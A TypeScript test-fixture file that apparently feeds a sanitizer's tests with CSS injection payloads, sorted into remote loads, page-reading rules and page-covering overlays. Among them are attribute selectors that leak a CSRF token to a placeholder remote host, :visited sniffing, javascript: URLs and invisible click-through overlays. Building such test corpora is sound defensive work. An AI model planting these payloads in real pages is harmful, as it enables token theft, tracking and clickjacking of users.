// Style sheets and style attributes: what loads, what reads, what reaches out of the output and what lies over the page.
import { group, type Payload, type Row } from './payload.js'

const both = (title: string, property: string, value: string): Row[] => [
  [`${title}, in a style attribute`, `<p style="${property}:${value.replaceAll('"', "'")}">text</p>`],
  [`${title}, in a style sheet`, `<style>.{{id}}{${property}:${value}}</style><p class="{{id}}">text</p>`],
]
const attribute = (title: string, style: string, tag = 'p'): Row => [
  title,
  `<${tag} style="${style}">text</${tag}>`,
]
const sheet = (title: string, css: string, markup = '<p class="{{id}}">text</p>'): Row => [
  title,
  `<style>${css}</style>${markup}`,
]

const loads: Row[] = [
  ...both('background', 'background', 'url({{remote}})'),
  ...both('background-image in quotes', 'background-image', 'url("{{remote}}")'),
  ...both('same-origin background', 'background-image', 'url({{here}})'),
  ...both('list-style-image', 'display:list-item;list-style-image', 'url({{remote}})'),
  ...both('list-style', 'display:list-item;list-style', 'inside url({{remote}})'),
  ...both('border-image', 'border:2px solid;border-image', 'url({{remote}}) 1'),
  ...both('border-image-source', 'border:2px solid;border-image-source', 'url({{remote}})'),
  ...both('cursor', 'cursor', 'url({{remote}}),auto'),
  ...both('mask', 'mask', 'url({{remote}})'),
  ...both('mask-image', 'mask-image', 'url({{remote}}#m)'),
  ...both('-webkit-mask-image', '-webkit-mask-image', 'url({{remote}})'),
  ...both('-webkit-mask-box-image', '-webkit-mask-box-image', 'url({{remote}}) 1'),
  ...both('mask-border-source', 'mask-border-source', 'url({{remote}})'),
  ...both('clip-path', 'clip-path', 'url({{remote}}#c)'),
  ...both('filter', 'filter', 'url({{remote}}#f)'),
  ...both('backdrop-filter', 'backdrop-filter', 'url({{remote}}#f)'),
  ...both('shape-outside', 'float:left;shape-outside', 'url({{remote}})'),
  ...both('offset-path', 'offset-path', 'url({{remote}}#p)'),
  ...both('-webkit-box-reflect', '-webkit-box-reflect', 'below 0 url({{remote}})'),
  ...both('content', 'content', 'url({{remote}})'),
  ...both('image-set with url()', 'background-image', 'image-set(url({{remote}}) 1x)'),
  ...both('image-set with a bare string', 'background-image', 'image-set("{{remote}}" 1x)'),
  ...both('-webkit-image-set', 'background-image', '-webkit-image-set(url({{remote}}) 1x)'),
  ...both('image() with a string', 'background-image', 'image("{{remote}}")'),
  ...both('cross-fade', 'background-image', 'cross-fade(url({{remote}}) 50%, red)'),
  ...both('-webkit-cross-fade', 'background-image', '-webkit-cross-fade(url({{remote}}),url({{here}}),50%)'),
  ...both('src()', 'background-image', 'src("{{remote}}")'),
  ...both('url() with modifiers', 'background-image', 'url("{{remote}}" crossorigin(anonymous))'),
  ...both('paint()', 'background-image', 'paint({{remote}})'),
  ...both('element() and -moz-element()', 'background-image', '-moz-element(#host-title)'),
  ...both(
    'several backgrounds, the last one remote',
    'background',
    'linear-gradient(red,blue),none,url({{remote}})',
  ),
  ...both('if() with a url', 'background-image', 'if(style(--x:1):url({{remote}});else:url({{here}}))'),
  ...both('a fallback of var()', 'background-image', 'var(--nope,url({{remote}}))'),
  ...both('attr() as a url', 'background-image', 'attr(title type(<url>),url({{remote}}))'),
  ...both('env() with a fallback', 'background-image', 'env(nope,url({{remote}}))'),
  ...both('behavior and -moz-binding', 'behavior:url({{remote}});-moz-binding', 'url({{remote}}#xbl)'),
  ...both('a page mask of SVG markers', 'marker-start', 'url({{remote}}#m)'),
  attribute('a custom property that is used', '--u:url({{remote}});background-image:var(--u)'),
  attribute(
    'a custom property spelled from pieces',
    '--a:ht;--u:url({{remote}});--v:var(--u);background:var(--v)',
  ),
  sheet(
    'a custom property from another rule',
    '.{{id}}{--u:url({{remote}})}.{{id}} span{background-image:var(--u)}',
    '<p class="{{id}}"><span>text</span></p>',
  ),
  sheet(
    'a registered property whose initial value loads',
    '@property --u{syntax:"<image>";inherits:true;initial-value:url({{remote}})}.{{id}}{background-image:var(--u)}',
  ),
  sheet('@import of a string', '@import "{{remote}}";'),
  sheet('@import of url()', '@import url({{remote}});'),
  sheet('@import of the same origin', '@import url({{here}});'),
  sheet(
    '@import with layer, supports and media',
    '@import url({{remote}}) layer(a) supports(display:block) screen;',
  ),
  sheet('@import of a data sheet', '@import url("data:text/css,p%7Bbackground:url({{remote}})%7D");'),
  sheet('@import in upper case after a charset', '@charset "utf-8";@IMPORT "{{remote}}";'),
  sheet('@import spelled with escapes', '@\\69mport "{{remote}}";'),
  sheet('@import after a broken rule', '};@import "{{remote}}";'),
  sheet('@import between CDO and CDC', '<!-- @import "{{remote}}"; -->'),
  sheet('@font-face', '@font-face{font-family:f{{id}};src:url({{remote}})}.{{id}}{font-family:f{{id}}}'),
  sheet(
    '@font-face with unicode-range for each letter',
    '@font-face{font-family:f{{id}};src:url({{remote}}?t);unicode-range:U+0074}.{{id}}{font-family:f{{id}}}',
  ),
  sheet(
    '@font-face that replaces a family of the host',
    '@font-face{font-family:sans-serif;src:url({{remote}})}@font-face{font-family:monospace;src:local("Symbol")}',
  ),
  sheet(
    '@font-palette-values and @font-feature-values',
    '@font-palette-values --p{font-family:f;override-colors:0 red}@font-feature-values f{@swash{x:1}}.{{id}}{font-palette:--p}',
  ),
  sheet(
    '@namespace',
    '@namespace url({{remote}});@namespace svg url(http://www.w3.org/2000/svg);svg|a{background:url({{remote}})}',
  ),
  sheet(
    '@counter-style with an image symbol',
    '@counter-style c{system:cyclic;symbols:url({{remote}})}.{{id}}{display:list-item;list-style:c}',
  ),
  sheet('@document and @-moz-document', '@-moz-document url-prefix(){.{{id}}{background:url({{remote}})}}'),
  sheet('@media that matches', '@media screen{.{{id}}{background:url({{remote}})}}'),
  sheet('@media print', '@media print{.{{id}}{background:url({{remote}})}}'),
  sheet('@supports', '@supports (display:block){.{{id}}{background:url({{remote}})}}'),
  sheet('@layer', '@layer a{.{{id}}{background:url({{remote}})}}'),
  sheet(
    '@container',
    '.c{container-type:inline-size}@container (width>0px){.{{id}}{background:url({{remote}})}}',
    '<div class="c"><p class="{{id}}">text</p></div>',
  ),
  sheet('@scope', '@scope (.{{id}}){:scope{background:url({{remote}})}}'),
  sheet(
    '@starting-style',
    '.{{id}}{transition:background-image 1s;@starting-style{background-image:url({{remote}})}}',
  ),
  sheet(
    '@keyframes',
    '@keyframes k{from{background-image:url({{remote}})}to{background-image:url({{here}})}}.{{id}}{animation:k 1s}',
  ),
  sheet('@page', '@page{background:url({{remote}});@top-left{content:url({{remote}})}}'),
  sheet(
    '@position-try and @view-transition',
    '@position-try --t{background:url({{remote}})}@view-transition{navigation:auto}.{{id}}{position-try:--t}',
  ),
  sheet('@function and @mixin', '@function --f(){result:url({{remote}})}.{{id}}{background:--f()}'),
  sheet('an at-rule nobody has heard of', '@nbtrust-new "{{remote}}" {.{{id}}{background:url({{remote}})}}'),
  sheet(
    'nested rules',
    '.{{id}}{color:red;& span{background:url({{remote}})}}',
    '<p class="{{id}}"><span>text</span></p>',
  ),
  sheet('rules nested 40 deep', `.{{id}}{${'&{'.repeat(40)}background:url({{remote}})${'}'.repeat(40)}}`),
  sheet('::before content', '.{{id}}::before{content:url({{remote}})}'),
  sheet('::after background', '.{{id}}::after{content:"";background:url({{remote}})}'),
  sheet(
    '::first-letter, ::selection, ::marker',
    '.{{id}}::first-letter{background:url({{remote}})}.{{id}}::selection{background:url({{remote}})}.{{id}}::marker{content:url({{remote}})}',
  ),
  sheet(
    '::cue and ::placeholder',
    '::cue{background:url({{remote}})}::placeholder{background:url({{remote}})}',
    '<input placeholder="text">',
  ),
  sheet(':hover', '.{{id}}:hover{background:url({{remote}})}'),
  sheet(
    ':focus and :active',
    '.{{id}}:focus,.{{id}}:active{background:url({{remote}})}',
    '<p class="{{id}}" tabindex="0">text</p>',
  ),
  sheet(
    ':checked and :target',
    '.{{id}}:checked{background:url({{remote}})}:target{background:url({{here}})}',
    '<input type="checkbox" class="{{id}}">',
  ),
  sheet(':has()', ':has(.{{id}}){background:url({{remote}})}'),
  sheet('url( with a backslash inside the name', '.{{id}}{background:u\\72l({{remote}})}'),
  sheet('url( with a six-digit escape and a space', '.{{id}}{background:\\000075 rl({{remote}})}'),
  sheet('URL in upper case', '.{{id}}{BACKGROUND:URL({{remote}})}'),
  sheet('an escaped scheme', '.{{id}}{background:url(\\68 ttps://remote.example/{{id}})}'),
  sheet('escaped slashes', '.{{id}}{background:url(https:\\2f\\2fremote.example/{{id}})}'),
  sheet(
    'an escaped line end inside a string',
    '.{{id}}{background:url("https://remote.exam\\\nple/{{id}}")}',
  ),
  sheet(
    'comments inside the declaration',
    '.{{id}}{back/**/ground:url({{here}});background/**/:/**/url({{remote}})/**/}',
  ),
  sheet('an escaped property name', '.{{id}}{b\\61 ckground:url({{remote}})}'),
  sheet('a url that is never closed', '.{{id}}{background:url({{remote}}'),
  sheet('a string that is never closed', '.{{id}}{background:url("{{remote}}'),
  sheet('a bad url followed by a good one', '.{{id}}{background:url(a b);background:url({{remote}})}'),
  sheet('a NUL in the sheet', '.{{id}}{back\u0000ground:url({{here}});background:url({{remote}})}'),
  sheet('a sheet with a form feed and carriage returns', '.{{id}}\f{\rbackground\r:\furl({{remote}})}'),
  sheet('a comment that never ends, after the rule', '.{{id}}{background:url({{remote}})}/*'),
  sheet(
    '!important and a hack',
    '.{{id}}{*background:url({{here}});_background:url({{here}});background:url({{remote}})!important!ie}',
  ),
  sheet('expression()', '.{{id}}{width:expression({{run}});background:url({{remote}})}'),
  sheet(
    'javascript in url()',
    '.{{id}}{background:url(javascript:{{run}});list-style-image:url("javascript:{{run}}")}',
  ),
  sheet(
    'a data SVG that loads',
    ".{{id}}{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{{remote}}'/></svg>\")}",
  ),
  sheet('a fragment of the host page', '.{{id}}{filter:url(#host-filter);mask:url(#host-filter)}'),
  [
    'a style element in an SVG',
    '<svg><style>.{{id}}{background:url({{remote}})}</style></svg><p class="{{id}}">text</p>',
  ],
  [
    'a style element in MathML',
    '<math><style>.{{id}}{background:url({{remote}})}</style></math><p class="{{id}}">text</p>',
  ],
  [
    'a style element with a media attribute',
    '<style media="print">.{{id}}{background:url({{remote}})}</style><p class="{{id}}">text</p>',
  ],
  [
    'a style element with a type',
    '<style type="text/css" title="other">.{{id}}{background:url({{remote}})}</style><p class="{{id}}">text</p>',
  ],
  [
    'a style element that is never closed',
    '<p class="{{id}}">text</p><style>.{{id}}{background:url({{remote}})}',
  ],
  ['a style attribute with entities', '<p style="background&#58;&#x75;rl({{remote}})">text</p>'],
  ['a style attribute with an escape of the name', '<p style="b\\61ckground:u\\72l({{remote}})">text</p>'],
  [
    'a style attribute with a brace',
    '<p style="}@import url({{remote}});p{background:url({{remote}})">text</p>',
  ],
  [
    'presentation attributes of old',
    '<body background="{{remote}}"><table background="{{here}}"><tr><td>text</td></tr></table>',
  ],
]

const secrets =
  'input[value^="s"]{background:url({{remote}}?s)}input[name=csrf][value$="t"]{background:url({{here}}?t)}'
const reads: Row[] = [
  sheet('attribute selectors that spell out a token', secrets, '<input name="csrf" value="secret">'),
  sheet(
    'attribute selectors that spell out the host token',
    `${secrets}#host-form input[name=csrf][value^="h"]{--x:url({{remote}});background:var(--x)}`,
  ),
  sheet(
    'font ligatures and scroll bars',
    '@font-face{font-family:l;src:url({{remote}})}body{white-space:nowrap;font-family:l}body::-webkit-scrollbar{background:url({{remote}})}',
  ),
  sheet(
    'container queries that measure text',
    'body{container-type:inline-size}@container (width>1px){#host-title{background:url({{remote}})}}',
  ),
  sheet(':visited', 'a:visited{background:url({{remote}})}', '<a href="{{link}}">text</a>'),
  sheet(
    'language and direction selectors',
    ':lang(en){background:url({{remote}}?en)}:dir(ltr){border-image:url({{here}})}',
  ),
  sheet(
    'media features as a fingerprint',
    '@media (prefers-color-scheme:light){.{{id}}{background:url({{remote}}?light)}}@media (resolution:1dppx){.{{id}}{mask:url({{here}})}}',
  ),
  sheet(
    'a font that tells installed ones apart',
    '@font-face{font-family:p;src:local("DejaVu Sans"),url({{remote}})}.{{id}}{font-family:p}',
  ),
  sheet('import chains', '@import url({{remote}}/1);@import url({{remote}}/2);'),
  sheet(':has() over the host page', 'body:has(#host-form input[value^="h"]){background:url({{remote}})}'),
  sheet(
    'attribute selectors on what a person types',
    '#host-text[value^="t"],#host-search[value^="s"]{background:url({{remote}})}#host-text[value$="t"]{border-image:url({{here}})}',
  ),
  sheet(
    'attribute selectors in a nested rule',
    'html{& #host-form{& input[value|="host-token"],& input[value*="token" i]{--y:url({{here}});background:var(--y)}}}',
  ),
  sheet(
    'attribute selectors inside :is() and :where()',
    ':is(#host-form,x) :where(input[name="csrf"][value^="ho"]) ~ label{background:url({{remote}})}',
  ),
  sheet(
    'state of the host by its pseudo-classes',
    '#host-check:checked{background:url({{here}})}#host-search:focus{background:url({{remote}})}#host-details[open]{background:url({{here}}?open)}',
  ),
  sheet(
    'if() with a style query',
    '#host-title{background:if(style(--host-color: rgb(10, 20, 30)): url({{here}}); else: none)}',
  ),
  sheet(
    'attr() as an address',
    '#host-title{background:src(attr(id));--z:attr(id type(<string>));background-image:image-set("{{here}}" 1x)}',
  ),
]

const over = 'top:0;left:0;width:100vw;height:100vh;background:red'
const covers: Row[] = [
  attribute('a fixed box', `position:fixed;${over}`, 'div'),
  attribute('a fixed box with the highest z-index', `position:fixed;z-index:2147483647;${over}`, 'div'),
  attribute('a fixed box that lets clicks through', `position:fixed;pointer-events:none;${over}`, 'div'),
  attribute('a fixed box that cannot be seen', `position:fixed;opacity:0;${over}`, 'div'),
  attribute('an absolute box', `position:absolute;${over}`, 'div'),
  attribute('an absolute box with negative insets', 'position:absolute;inset:-9999px;background:red', 'div'),
  attribute('a sticky box', `position:sticky;top:-500px;bottom:0;z-index:9;${over}`, 'div'),
  attribute(
    'a relative box that is moved',
    'position:relative;top:-300px;left:-300px;width:2000px;height:900px;background:red',
    'div',
  ),
  attribute('negative margins', 'margin:-600px;width:2000px;height:2000px;background:red', 'div'),
  attribute('negative margin of one side', 'margin-top:-200px;height:300px;background:red', 'div'),
  attribute(
    'negative logical margins',
    'margin-block-start:-300px;margin-inline:-300px;height:500px;background:red',
    'div',
  ),
  attribute('negative text indent', 'text-indent:-400px;white-space:nowrap', 'p'),
  attribute('letter and word spacing', 'letter-spacing:-200px;word-spacing:900px;direction:rtl'),
  attribute(
    'a transform that moves',
    'transform:translate(-400px,-300px);width:2000px;height:900px;background:red',
    'div',
  ),
  attribute('a transform that grows', 'transform:scale(400);background:red', 'div'),
  attribute(
    'translate, scale and rotate properties',
    'translate:-300px -300px;scale:80;rotate:10deg;background:red',
    'div',
  ),
  attribute('a perspective', 'transform:perspective(1px) translateZ(.99px);background:red', 'div'),
  attribute('zoom', 'zoom:400;background:red', 'div'),
  attribute(
    'an offset path',
    "offset-path:path('M-400,-400 L900,900');offset-distance:10%;width:900px;height:900px;background:red",
    'div',
  ),
  attribute('a box shadow over everything', 'box-shadow:0 0 0 9999px red', 'div'),
  attribute('an outline over everything', 'outline:9999px solid red', 'div'),
  attribute('an outline with an offset', 'outline:3px solid red;outline-offset:400px', 'div'),
  attribute('a text shadow elsewhere', 'text-shadow:-300px -100px red,0 -200px red'),
  attribute('a drop-shadow filter', 'filter:drop-shadow(-300px -100px 0 red)'),
  attribute('a blur of hundreds of pixels', 'filter:blur(900px);background:red;height:200px', 'div'),
  attribute(
    'a border image that is outset',
    'border:2px solid;border-image:linear-gradient(red,red) 1 / 900px / 900px',
    'div',
  ),
  attribute('a border of 9,999 pixels', 'border:9999px solid red', 'div'),
  attribute('a size of 9e15 pixels', 'width:9e15px;height:9e15px;background:red', 'div'),
  attribute('a height of a million viewports', 'height:1000000vh;background:red', 'div'),
  attribute('a minimum size', 'min-width:100000px;min-height:1000000px;background:red', 'div'),
  attribute('padding of a million pixels', 'padding:1000000px', 'div'),
  attribute('calc() that hides a size', 'width:calc(1px*9e12);height:calc(100vh*9e3);background:red', 'div'),
  attribute('max() that hides a size', 'height:max(1px,9e9px);background:red', 'div'),
  attribute('a font of 100,000 pixels', 'font-size:100000px'),
  attribute('a line height of a million', 'line-height:1000000'),
  attribute('a float that runs out', 'float:left;width:3000px;height:3000px;background:red', 'div'),
  attribute('overflow that shows', 'overflow:visible;height:1px;white-space:pre', 'pre'),
  attribute('an element in the top layer by overlay', `overlay:auto!important;position:fixed;${over}`, 'div'),
  attribute('an anchored box', `position:fixed;position-anchor:--host;position-area:center;${over}`, 'div'),
  attribute('a multi-column overflow', 'columns:1px;column-gap:400px;height:10px', 'div'),
  attribute('a running element', 'float:footnote;position:running(header)', 'div'),
  attribute('all: unset with a fixed box', `all:initial;position:fixed;${over}`, 'div'),
  attribute(
    'a view transition name of the root',
    'view-transition-name:root;anchor-name:--host;timeline-scope:all;scroll-timeline-name:--host',
    'div',
  ),
  attribute(
    'a counter that renumbers the host',
    'counter-reset:host 99;counter-increment:host 99;counter-set:host 99',
    'div',
  ),
  attribute('a quote depth', 'quotes:none;content:open-quote', 'q'),
  attribute(
    'user-select, touch-action and overscroll',
    'user-select:none;touch-action:none;overscroll-behavior:none;scroll-snap-type:y mandatory',
    'div',
  ),
  attribute('page-break and orphans', 'break-before:page;page:{{id}};orphans:99', 'div'),
  attribute('a resizer', 'resize:both;overflow:auto;width:60px;height:20px', 'div'),
  attribute(
    'a blend mode',
    'mix-blend-mode:difference;isolation:auto;background:white;position:fixed;inset:0',
    'div',
  ),
  attribute('a backdrop filter', 'backdrop-filter:invert(1);position:fixed;inset:0', 'div'),
  attribute('a cursor of none', 'cursor:none;width:60px;height:20px', 'div'),
  attribute('an app region', '-webkit-app-region:drag;app-region:drag', 'div'),
  attribute('display: contents and display: table', 'display:contents;position:fixed', 'div'),
  attribute('a style attribute of 1 MB', `width:1px;${'--a:1;'.repeat(170_000)}`, 'div'),
  sheet('a rule for everything', '*{display:none!important}'),
  sheet('a rule for body and html', 'html,body{background:red!important;display:none}'),
  sheet(':root', ':root{--host-color:red;font-size:90px}'),
  sheet(':host', ':host{position:fixed!important;inset:0;width:100vw;height:100vh;background:red}'),
  sheet(':host()', ':host(*),:host(div){position:fixed;inset:0;z-index:9;background:red}'),
  sheet(':host-context()', ':host-context(body){position:fixed;inset:0;background:red}'),
  sheet(':host spelled with escapes', ':ho\\73t{position:fixed;inset:0;background:red}'),
  sheet(':host inside :is()', ':is(:host),:where(:host){position:fixed;inset:0;background:red}'),
  sheet(':host inside :not()', ':not(.x):host{position:fixed;inset:0;background:red}'),
  sheet(
    ':host inside @scope and @layer',
    '@layer a{:host{position:fixed;inset:0;background:red}}@scope (:host){:scope{position:fixed;inset:0}}',
  ),
  sheet(':host inside nesting', '.{{id}}{:host &{color:red}}:host{&{position:fixed;inset:0;background:red}}'),
  sheet(':host as @scope root', '@scope{:scope{position:fixed;inset:0;background:red}}'),
  sheet(':scope alone', ':scope{position:fixed;inset:0;background:red}'),
  sheet('& alone', '&{position:fixed;inset:0;background:red}'),
  sheet('::slotted and ::part', '::slotted(*){position:fixed;inset:0}::part(dialog){display:none}'),
  sheet('/deep/ and >>>', '.{{id}} /deep/ *,.{{id}} >>> *{display:none}'),
  sheet('custom properties the host uses', ':host,*{--host-color:red;--jp-layout-color0:red}'),
  sheet(
    'a property registered over the host',
    '@property --host-color{syntax:"<color>";inherits:false;initial-value:red}',
  ),
  sheet('keyframes with a name of the host', '@keyframes host-spin{to{display:none;opacity:0}}'),
  sheet('a layer order for the host', '@layer host, reset;@layer host{#host-title{display:none}}'),
  sheet(
    'a counter style of the host',
    '@counter-style decimal{system:cyclic;symbols:x}@counter-style host-list{system:cyclic;symbols:x}',
  ),
  sheet(
    'a view transition',
    '@view-transition{navigation:auto}::view-transition{position:fixed;inset:0;background:red}',
  ),
  sheet('::backdrop', '::backdrop{background:red;position:fixed;inset:0}'),
  sheet(
    '::scroll-marker and ::scroll-button',
    '.{{id}}{overflow:auto;scroll-marker-group:before}.{{id}}::scroll-button(down){content:"x";position:fixed;inset:0}',
  ),
  sheet('::before that is fixed', `.{{id}}::before{content:"";position:fixed;${over}}`),
  sheet(
    '::before that lets clicks through',
    `.{{id}}::before{content:"cover";position:absolute;pointer-events:none;inset:-900px;background:red}`,
  ),
  sheet('a fixed box on hover', `.{{id}}:hover{position:fixed;${over}}`),
  sheet('a fixed box when printed', `@media print{.{{id}}{position:fixed;${over}}}`),
  sheet(
    'a fixed box by animation',
    `@keyframes k{to{position:fixed;transform:translate(-300px,-300px) scale(60)}}.{{id}}{animation:k 1ms forwards;background:red}`,
  ),
  sheet(
    'a containing block that is undone',
    `div{contain:none!important;overflow:visible!important;transform:none!important}.{{id}}{position:fixed;${over}}`,
  ),
  sheet(
    'a rule that unclips every ancestor',
    `:has(.{{id}}){contain:none!important;overflow:visible!important;clip-path:none!important}.{{id}}{margin:-900px;height:3000px;background:red}`,
  ),
  sheet(
    'a style sheet that hides the message',
    '.nbtrust-message,[class*="withheld"],[part]{display:none!important}',
  ),
  sheet('a style sheet that closes itself early', '.x{}</style ><b>out</b><style>.{{id}}{color:red}'),
  sheet(
    'two sheets that only together are a rule',
    '.x{color:red;/*',
    '<style>*/}*{display:none}</style><p class="{{id}}">text</p>',
  ),
  [
    'a style element in a table in a template',
    '<table><template><style>*{display:none}</style></template><tr><td>cell</td></tr></table>',
  ],
  ['the hidden and inert attributes', '<div hidden inert popover><p>text</p></div>'],
  [
    'font size attributes of old',
    '<font size="+99" color="red" face="Symbol">text</font><basefont size="7" color="red">',
    { mustRemain: ['text'] },
  ],
  [
    'bgcolor, text and link on body',
    '<body bgcolor="red" text="red" link="red" vlink="red" alink="red" marginwidth="-900" topmargin="900">text</body>',
    { mustRemain: ['text'] },
  ],
  [
    'hspace, vspace and border',
    '<img hspace="-900" vspace="90000" border="90000" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  ],
  [
    'width and height attributes beyond reason',
    '<img width="9000000000000000" height="9000000000000000" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><table width="999999" height="99999999"><tr><td width="9e99">cell</td></tr></table>',
    { mustRemain: ['cell'] },
  ],
  [
    'colspan and rowspan beyond reason',
    '<table><tr><td colspan="99999999" rowspan="99999999">cell</td></tr></table>',
    { mustRemain: ['cell'] },
  ],
  [
    'a span of 99,999 columns',
    '<table><colgroup span="99999"></colgroup><col span="99999"><tr><td>cell</td></tr></table>',
    { mustRemain: ['cell'] },
  ],
  [
    'rows and cols beyond reason',
    '<textarea rows="99999999" cols="99999999">text</textarea><input size="99999999">',
  ],
  ['a canvas of 60,000 pixels', '<canvas width="60000" height="60000"></canvas>'],
  [
    'a marquee over the page',
    '<marquee width="9999" height="9999" scrollamount="999" behavior="alternate">text</marquee>',
    { mustRemain: ['text'] },
  ],
]

/** CSS that loads. */
export const cssLoads: readonly Payload[] = group('css-load', { kind: 'css', mustNot: ['network'] }, loads)
/** CSS that reads what is around it. */
export const cssReads: readonly Payload[] = group(
  'css-read',
  { kind: 'css', mustNot: ['network', 'style'] },
  reads,
)
/** CSS that restyles or covers the page. */
export const cssCovers: readonly Payload[] = group('css-cover', { kind: 'css', mustNot: ['style'] }, covers)
